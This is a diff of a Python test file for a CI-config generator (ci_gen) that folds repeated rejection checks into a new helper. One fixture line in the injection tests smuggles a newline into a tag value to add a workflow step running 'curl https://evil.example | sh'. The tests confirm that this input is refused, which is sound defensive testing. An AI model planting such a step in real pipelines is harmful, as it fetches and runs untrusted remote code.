@@ -53,6 +53,15 @@ def refused(result: Result, code: ExitCode, *needles: str) -> None:
         assert needle in said, said
 
 
+def rejected(tmp_path: Path, manifest: str, needle: str, *commands: str) -> None:
+    """Each command (render by default) refuses ``manifest`` with exit 2, saying
+    ``needle``; nothing but the manifest is in the repository after."""
+    root = repository(tmp_path, manifest)
+    for command in commands or ("render",):
+        refused(ci_gen(root, command), ExitCode.INVALID, needle)
+    assert list(tree(root)) == ["ci.toml"]
+
+
 # --- injection ---------------------------------------------------------------------
 
 INJECTED_TAG = f"""{CRATE}
@@ -86,9 +95,7 @@ tag = "v7.0.1\\n      - name: evil\\n        run: curl https://evil.example | sh
 def test_injection_is_refused_with_the_key_and_nothing_is_written(
     tmp_path: Path, manifest: str, key: str
 ) -> None:
-    root = repository(tmp_path, manifest)
-    refused(ci_gen(root, "render"), ExitCode.INVALID, f"ci.toml: {key}: ")
-    assert list(tree(root)) == ["ci.toml"]
+    rejected(tmp_path, manifest, f"ci.toml: {key}: ")
 
 
 @pytest.mark.parametrize(
@@ -111,9 +118,7 @@ def test_injection_is_refused_with_the_key_and_nothing_is_written(
     ],
 )
 def test_a_value_ending_in_a_newline_is_refused(tmp_path: Path, manifest: str, key: str) -> None:
-    root = repository(tmp_path, manifest)
-    refused(ci_gen(root, "render"), ExitCode.INVALID, f"ci.toml: {key}: ")
-    assert list(tree(root)) == ["ci.toml"]
+    rejected(tmp_path, manifest, f"ci.toml: {key}: ")
 
 
 def test_an_install_line_list_may_hold_newlines(tmp_path: Path) -> None:
@@ -165,10 +170,7 @@ def test_an_install_line_list_may_hold_newlines(tmp_path: Path) -> None:
 def test_a_number_out_of_range_names_its_key_and_range(
     tmp_path: Path, manifest: str, expected: str
 ) -> None:
-    root = repository(tmp_path, manifest)
-    for command in ("render", "plan", "check"):
-        refused(ci_gen(root, command), ExitCode.INVALID, f"ci.toml: {expected}")
-    assert list(tree(root)) == ["ci.toml"]
+    rejected(tmp_path, manifest, f"ci.toml: {expected}", "render", "plan", "check")
 
 
 def test_the_schema_states_every_bound() -> None:
@@ -338,9 +340,7 @@ def test_a_runner_label_yaml_would_misread_stays_a_string(tmp_path: Path, label:
     ],
 )
 def test_more_bad_input_is_exit_2(tmp_path: Path, manifest: str, expected: str) -> None:
-    root = repository(tmp_path, manifest)
-    refused(ci_gen(root, "render"), ExitCode.INVALID, expected)
-    assert list(tree(root)) == ["ci.toml"]
+    rejected(tmp_path, manifest, expected)
 
 
 @pytest.mark.parametrize("name", ["a: b.toml", "ci #x.toml", "m" * 101 + ".toml"])
